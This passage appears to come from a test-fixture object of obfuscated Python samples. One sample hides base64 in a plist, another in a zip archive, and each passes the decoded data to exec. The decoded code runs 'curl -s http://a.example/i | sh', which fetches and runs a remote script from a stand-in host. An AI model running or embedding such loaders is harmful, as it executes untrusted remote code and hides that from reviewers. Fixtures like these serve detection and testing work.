    'import plistlib\nexec(plistlib.loads(b\'<?xml version="1.0"?><plist version="1.0"><dict><key>d</key><data>aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==</data></dict></plist>\')[\'d\'])',
  tarbytes:
    "import zipfile, io, base64\nexec(zipfile.ZipFile(io.BytesIO(base64.b64decode('UEsDBBQAAAAAADhqe123E41DNwAAADcAAAABAAAAYWltcG9ydCBvcwpvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2EuZXhhbXBsZS9pIHwgc2gnKQpQSwECFAMUAAAAAAA4antdtxONQzcAAAA3AAAAAQAAAAAAAAAAAAAAgAEAAAAAYVBLBQYAAAAAAQABAC8AAABWAAAAAAA='))).read('a'))",
};
